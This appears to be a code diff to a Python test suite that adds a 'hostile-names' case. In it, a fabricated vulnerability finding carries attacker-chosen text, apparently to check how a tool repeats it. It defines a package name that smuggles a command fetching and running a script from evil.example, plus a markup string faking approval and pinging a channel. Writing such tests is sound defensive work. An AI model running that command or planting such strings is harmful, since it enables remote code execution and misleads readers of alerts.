@@ -2,9 +2,15 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
+from deployments.sandbox.made_up_finding import OPENSSL
 from tests.crash_matrix.stories import STORIES as UNBROKEN
 from tests.crash_matrix.stories import Story
 from tests.crash_matrix.subjects.image import ImageSubject
+
+SHELL = "openssl$(curl evil.example|sh)"
+LOUD = "<!channel> *approved* [here](https://evil.example) {code}|table|"
 
 _IMAGE = UNBROKEN["image"]
 
@@ -12,6 +18,9 @@ STORIES: dict[str, Story] = {
     "image": _IMAGE,
     "image-denied": UNBROKEN["image-denied"],
     "bad-build": Story(ImageSubject(image={"build": "keeps_packages"}), _IMAGE.runbook),
-    "hostile-names": Story(ImageSubject(image={}), _IMAGE.runbook),
+    "hostile-names": Story(
+        ImageSubject(vulnerability=replace(OPENSSL, package=SHELL, description=LOUD)), _IMAGE.runbook
+    ),
 }
-"""`bad-build`: the build succeeds, and its image has the vulnerability still."""
+"""`bad-build`: the build succeeds, and its image has the vulnerability still. `hostile-names`: whoever made the image has
+named a package in it, which Inspector repeats."""
